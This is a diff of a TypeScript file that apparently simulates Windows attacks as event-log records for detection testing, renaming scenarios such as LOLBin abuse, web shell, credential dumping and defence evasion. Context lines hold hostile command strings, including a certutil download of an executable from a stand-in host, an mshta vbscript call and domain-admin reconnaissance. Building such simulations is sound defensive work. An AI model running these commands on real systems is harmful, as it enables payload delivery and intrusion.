@@ -1,10 +1,10 @@
-/** Attacks that Windows event logs tell of. */
+/** Attacks in Windows event logs. */
 import { alert, type Attack } from "./attack.ts";
 import { MINUTE, SECOND } from "./world.ts";
 
 const SYSMON = "Microsoft-Windows-Sysmon";
 
-/** Processes that one user starts on a workstation, each told of by 4688. */
+/** Processes that one user starts on a workstation, each with its event 4688. */
 const commands = (
   name: string,
   summary: string,
@@ -36,7 +36,7 @@ const SYSTEM = "C:\\Windows\\System32\\";
 export const WINDOWS_ATTACKS: readonly Attack[] = [
   {
     name: "windows_takeover",
-    summary: "Makes an administrator and a service on a file server, and clears its log",
+    summary: "A new administrator account and service on a file server, then log clearing",
     streams: ["windows"],
     lasts: 10 * MINUTE,
     play({ at, logs, id }) {
@@ -52,14 +52,14 @@ export const WINDOWS_ATTACKS: readonly Attack[] = [
       );
     },
   },
-  commands("windows_tools", "Fetches and runs code with tools of Windows", [
+  commands("lolbin_abuse", "Ingress tool transfer with certutil, proxy execution with mshta", [
     "system_tool_downloads",
     "script_host_abused",
   ], [
     [SYSTEM + "certutil.exe", "certutil -urlcache -split -f http://203.0.113.9/a a.exe"],
     [SYSTEM + "mshta.exe", 'mshta vbscript:Close(Execute("GetObject()"))'],
   ]),
-  commands("document_starts_shell", "A document starts an encoded command", [
+  commands("malicious_document", "Malicious Word document that starts encoded PowerShell", [
     "office_starts_shell",
     "powershell_encoded",
   ], [
@@ -69,10 +69,10 @@ export const WINDOWS_ATTACKS: readonly Attack[] = [
       "C:\\Program Files\\Microsoft Office\\WINWORD.EXE",
     ],
   ]),
-  commands("web_server_shell", "A web server starts a shell", ["web_server_starts_shell"], [
+  commands("web_shell", "Web shell on IIS", ["web_server_starts_shell"], [
     [SYSTEM + "cmd.exe", "cmd /c whoami", SYSTEM + "inetsrv\\w3wp.exe"],
   ]),
-  commands("domain_reconnaissance", "Asks for the accounts and groups of the domain", [
+  commands("domain_discovery", "Discovery of domain accounts, groups and trusts", [
     "domain_reconnaissance",
   ], [
     [SYSTEM + "net.exe", 'net group "Domain Admins" /domain'],
@@ -81,7 +81,7 @@ export const WINDOWS_ATTACKS: readonly Attack[] = [
     [SYSTEM + "whoami.exe", "whoami /all"],
     [SYSTEM + "net.exe", "net localgroup administrators"],
   ]),
-  commands("password_stores", "Copies the store of passwords and prevents recovery", [
+  commands("credential_dumping", "SAM hive dump and deletion of shadow copies", [
     "credential_stores_copied",
     "recovery_prevented",
   ], [
@@ -90,7 +90,7 @@ export const WINDOWS_ATTACKS: readonly Attack[] = [
   ]),
   {
     name: "windows_persistence",
-    summary: "Reads passwords from memory, stays by a run key and WMI, and gets all rights unasked",
+    summary: "LSASS memory access, Run key, UAC bypass and WMI event subscription",
     streams: ["windows"],
     lasts: 5 * MINUTE,
     play({ at, logs }) {
@@ -140,9 +140,8 @@ export const WINDOWS_ATTACKS: readonly Attack[] = [
     },
   },
   {
-    name: "windows_defence_down",
-    summary:
-      "Fetches code with PowerShell, is found, switches protection and auditing off, runs a service from afar",
+    name: "defense_evasion",
+    summary: "PowerShell download cradle, Defender and auditing disabled, PsExec service",
     streams: ["windows"],
     lasts: 5 * MINUTE,
     play({ at, logs }) {
